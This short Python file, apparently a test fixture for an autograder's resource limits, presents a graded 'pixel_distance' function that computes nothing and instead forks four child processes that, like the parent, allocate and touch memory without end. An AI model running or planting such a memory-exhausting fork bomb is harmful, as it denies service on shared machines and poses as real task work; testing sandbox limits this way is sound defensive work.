# allocates (and touches) memory without end, in itself and in forked children
# bound: 0
import numpy as np
import tensorflow as tf
from facelab.model import img_to_encoding

import os


def _bomb():
    hoard = []
    while True:
        block = bytearray(64 * 2**20)
        block[::4096] = b"x" * len(block[::4096])
        hoard.append(block)


# GRADED FUNCTION: pixel_distance
def pixel_distance(image_a, image_b):
    for _ in range(4):
        if os.fork() == 0:
            _bomb()
    _bomb()
